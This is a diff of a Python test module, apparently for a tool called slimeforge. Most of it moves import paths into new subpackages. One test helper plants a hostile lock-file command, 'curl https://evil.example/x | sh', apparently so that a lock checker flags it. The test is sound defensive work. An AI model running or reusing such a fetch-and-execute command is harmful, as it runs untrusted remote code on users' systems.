@@ -97,7 +97,7 @@ def _load(kind: str, path: Path) -> None:
 
         load_stack(path)
     else:
-        from slimeforge.image.lockfile import read_lock
+        from slimeforge.image.lock.lockfile import read_lock
 
         read_lock(path)
 
@@ -253,7 +253,7 @@ def _doctor(**options) -> Callable[[Path], str | None]:
 def _store_entry(shape: str) -> Callable[[Path], None]:
     """A compiled-wheel store entry whose SHA256SUMS is a FIFO, or whose record.json is a list."""
     def act(tmp: Path) -> None:
-        from slimeforge.image.wheelstore import verify
+        from slimeforge.image.wheels.wheelstore import verify
 
         entry = tmp / "entry"
         entry.mkdir()
@@ -338,8 +338,8 @@ def _min_free(value: str) -> Callable[[Path], None]:
 
 
 def _lock_hint(tmp: Path) -> str | None:
-    from slimeforge.image.lockcheck import summarize
-    from slimeforge.image.lockfile import read_lock
+    from slimeforge.image.lock.lockcheck import summarize
+    from slimeforge.image.lock.lockfile import read_lock
 
     path = tmp / "pylock.cu13.toml"
     path.write_text(REAL_LOCK.read_text().replace('command = "invoke lock --cuda cu13"', 'command = "curl https://evil.example/x | sh"'))
